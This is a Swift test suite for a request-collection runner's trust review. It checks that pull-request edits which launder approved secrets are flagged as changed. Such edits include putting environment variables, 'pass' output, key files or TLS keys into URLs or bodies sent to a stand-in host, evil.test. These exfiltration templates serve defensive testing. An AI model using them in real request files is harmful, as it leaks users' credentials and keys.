import Foundation
import Testing

@testable import CollectionRunner
@testable import RequestCollections

/// What a pull request makes of a collection that is allowed a lot already: the same command, variable or file, but not for the same.
@Suite struct LaunderedSecretTests {
    private static let allowed = """
        turnstone: 1
        variables:
          code: { secret: { env: SHOP_CODE } }
          card: { secret: { env: CARD_CODE } }
          pin: { secret: { command: [pass, show, pin] } }
          key: { secret: { file: /keys/key } }
        requests:
          a: { get: "https://a.test/", headers: { x: "{{code}} {{pin}} {{key}}" }, tls: { key: /keys/tls } }
          b: { get: "https://b.test/", headers: { x: "{{card}}" }, hydrate: [sign] }

        """

    /// What is asked about another text in the place of the allowed one.
    private func asked(_ text: String, given: [String: JSONValue] = [:]) -> [String] {
        let store = TrustStore(directory: nil)
        func collection(_ text: String) -> RequestCollection {
            RequestCollection.load(path: "/c/shop.yaml", bytes: Array(text.utf8))
        }
        let before = collection(Self.allowed)
        TrustKeeper(store: store).allow(before.wants(of: before.requests, environment: nil), of: before, isKept: true)
        let after = collection(text)
        #expect(after.problems == [])
        let review = TrustKeeper(store: store)
            .review(after.wants(of: after.requests, environment: nil, variables: given), of: after)
        return review.rows.map { row in
            let was = row.details.filter { $0.hasPrefix("was") }.map { ", \($0)" }.joined()
            return "\(row.mark) \(row.noted.want.kind) \(row.noted.want.subject)\(was)"
        }
    }

    private func asked(ofRequest request: String) -> [String] { asked("\(Self.allowed)  c: { \(request) }\n") }

    @Test func `what is allowed is asked no more`() { #expect(asked(Self.allowed) == []) }

    @Test(
        arguments: [
            (#"get: "https://evil.test/{{env('SHOP_CODE')}}""#, "env SHOP_CODE"),
            (#"get: "https://evil.test/{{command('pass', 'show', 'pin')}}""#, "run pass show pin"),
            (#"get: "https://evil.test/{{file('/keys/key')}}""#, "read /keys/key"),
            (#"post: "https://evil.test/", body: { file: /keys/key }"#, "read /keys/key"),
            (#"post: "https://evil.test/", body: { multipart: { part: { file: /keys/key } } }"#, "read /keys/key"),
        ])
    func `a secret isn't allowed as a text`(request: String, want: String) {
        #expect(
            asked(ofRequest: request.replacing("'", with: #"\""#))
                == ["CHANGED \(want), was as a secret, and is as a text now"])
    }

    @Test func `a key for TLS isn't allowed as a body, nor a command for hydrate as a text`() {
        #expect(
            asked(ofRequest: #"post: "https://evil.test/", body: { file: /keys/tls }"#)
                == ["CHANGED read /keys/tls, was for TLS, and is as a text now"])
        #expect(
            asked(ofRequest: #"get: "https://evil.test/{{command(\"sign\")}}""#)
                == ["CHANGED run sign, was for `hydrate`, and is as a text now"])
    }

    @Test func `another secret under an allowed one's name is another one`() {
        let swapped = Self.allowed.replacing("SHOP_CODE", with: "X").replacing("CARD_CODE", with: "SHOP_CODE")
            .replacing("env: X", with: "env: CARD_CODE")
        let shop = "of the environment variable `SHOP_CODE`"
        let card = "of the environment variable `CARD_CODE`"
        #expect(
            asked(swapped) == [
                "CHANGED send code → https://a.test, was \(shop), and is \(card) now",
                "CHANGED send card → https://b.test, was \(card), and is \(shop) now",
            ])
    }

    @Test func `what a person gives for a secret goes where the secret may go`() {
        #expect(asked(Self.allowed, given: ["code": .string("typed")]) == [])
        #expect(
            asked(Self.allowed.replacing("a.test", with: "evil.test"), given: ["code": .string("typed")]).first
                == "CHANGED send code → https://evil.test, was https://a.test")
    }

    @Test func `it is kept so`() throws {
        for use in [WantUse.text, .secret, .certificate, .netrc, .request, .hydrate, .filter] {
            for want in [
                Want.run(CommandWant(["a"], for: use)), .read(path: "/a", for: use), .env(name: "A", for: use),
                .send(secret: "a", of: use.rawValue, origin: "https://a.test"),
            ] {
                let data = try JSONEncoder().encode(WantRecord(want))
                #expect(try JSONDecoder().decode(WantRecord.self, from: data).want == want)
            }
        }
    }
}
